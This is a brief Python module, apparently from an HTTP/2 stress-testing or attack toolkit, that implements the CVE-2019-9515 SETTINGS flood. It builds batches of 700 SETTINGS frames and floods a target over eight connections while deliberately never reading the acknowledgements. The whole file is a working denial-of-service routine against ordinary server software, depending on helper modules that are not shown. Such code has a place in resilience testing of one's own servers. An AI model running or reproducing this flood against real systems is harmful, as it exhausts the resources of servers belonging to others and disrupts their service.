"""SETTINGS frames whose acknowledgements nobody reads (CVE-2019-9515, settings flood)."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = frames.settings({frames.MAX_FRAME: 16384, frames.TABLE_SIZE: 4096}) * 700
    return await target.flood(8, frames.opening(), lambda: repeat(batch), reads=False)
